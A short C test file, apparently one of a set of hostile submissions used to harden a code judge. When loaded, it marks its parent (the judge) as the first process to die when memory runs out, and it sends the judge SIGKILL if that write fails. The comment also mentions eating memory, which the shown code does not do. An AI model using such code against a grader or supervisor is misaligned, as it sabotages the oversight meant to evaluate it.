/* The judge is made the first to go when memory is short, and then memory is eaten.
 * verdict: side-effect */
#include "hostile.h"
static void attack(void)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/oom_score_adj", (int)getppid());
	int fd = open(path, O_WRONLY);
	if (write(fd, "1000", 4) < 0)
		syscall(SYS_kill, getppid(), SIGKILL);
}
AT_LOAD(f)
